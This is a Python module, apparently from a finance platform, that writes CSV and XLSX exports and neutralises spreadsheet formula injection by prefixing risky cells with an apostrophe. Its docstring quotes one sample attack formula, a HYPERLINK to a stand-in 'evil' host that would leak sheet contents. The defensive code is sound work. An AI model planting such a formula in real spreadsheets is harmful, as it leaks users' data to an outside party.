"""Every CSV and XLSX the platform hands out is written here, so user text can never act as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets (a deal titled
``=HYPERLINK("http://evil/?"&A1,"点击")`` becomes a live link leaking the
sheet). ``safe_cell`` prefixes such text with an apostrophe, which the
spreadsheet shows as plain text (OWASP's "CSV injection" advice); numbers,
amounts and dates stay typed values. Control characters that XML 1.0
cannot carry (openpyxl raises ``IllegalCharacterError`` on them, which made
one bad recordal number break every XLSX export) are dropped.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "#,##0.00"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")

Sheet = tuple[str, Sequence[Any], Iterable[Sequence[Any]]]


def attachment(*parts: object, fmt: str) -> dict[str, str]:
    """The download header of an export, named the same way everywhere: what the file holds, then its scope and
    period, lower case and hyphenated (``console-items-2026-01-01-2026-12-31.csv``, ``annual-fees-2026-q4.xlsx``);
    empty parts are left out."""
    words = [re.sub(r"[^a-z0-9]+", "-", str(part).lower()).strip("-") for part in parts if part not in (None, "")]
    return {"Content-Disposition": f'attachment; filename="{"-".join(word for word in words if word)}.{fmt}"'}


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should store it: text never read as a formula, never an illegal character."""
    if isinstance(value, bool) or value is None:
        return value
    if isinstance(value, (int, float, Decimal, date, datetime)):
        return value
    text = _ILLEGAL.sub("", str(value))
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _csv_value(value: Any) -> Any:
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return safe_cell(value)


def to_csv(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM so Excel opens the Chinese text correctly; amounts keep two decimals."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([_csv_value(h) for h in headers])
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(sheets: Sequence[Sheet], *, widths: dict[str, dict[int, float]] | None = None) -> bytes:
    """One worksheet per (title, headers, rows): bold frozen header, amounts as numbers formatted to the cent.

    ``widths`` optionally fixes column widths per sheet title (1-based column
    index → width); otherwise a width follows the header's length. Written in
    openpyxl's write-only mode: rows stream out as they come, so a finance
    office's export of thousands of rows costs neither quadratic time nor memory.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, headers, rows in sheets:
        sheet = book.create_sheet(str(safe_cell(title))[:31].lstrip("'") or "Sheet")
        fixed = (widths or {}).get(title, {})
        for index, header in enumerate(headers, start=1):
            width = fixed.get(index) or max(10, min(40, len(str(header)) * 2 + 4))
            sheet.column_dimensions[get_column_letter(index)].width = width
        sheet.freeze_panes = "A2"
        header_cells = []
        for header in headers:
            cell = WriteOnlyCell(sheet, value=safe_cell(header))
            cell.font = bold
            header_cells.append(cell)
        sheet.append(header_cells)
        for row in rows:
            sheet.append([_money_cell(sheet, value) for value in (safe_cell(v) for v in row)])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _money_cell(sheet: Any, value: Any) -> Any:
    """An amount as a number formatted to the cent; any other value as it is."""
    if not isinstance(value, (Decimal, float)):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)  # type: ignore[arg-type]  # openpyxl writes a Decimal as a number
    cell.number_format = MONEY_FORMAT
    return cell
